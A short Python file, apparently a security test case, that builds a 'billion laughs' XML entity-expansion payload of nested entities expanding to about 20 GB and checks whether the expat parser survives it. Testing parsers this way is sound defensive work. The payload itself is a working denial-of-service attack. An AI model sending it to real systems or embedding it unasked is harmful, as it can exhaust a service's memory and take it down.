"""Entities of entities of entities."""

import xml.parsers.expat


def attack(told, tries):
    entities = ['<!ENTITY a0 "{}">'.format("ha" * 1000)]
    for level in range(1, 8):
        entities.append('<!ENTITY a{} "{}">'.format(level, "&a{};".format(level - 1) * 10))
    text = "<!DOCTYPE x [{}]><x>&a7;</x>".format("".join(entities))
    seen = []

    def parse():
        parser = xml.parsers.expat.ParserCreate()
        parser.CharacterDataHandler = seen.append
        try:
            parser.Parse(text, True)
        except xml.parsers.expat.ExpatError:
            return False
        return True

    tries.to("20 GB of text", parse)
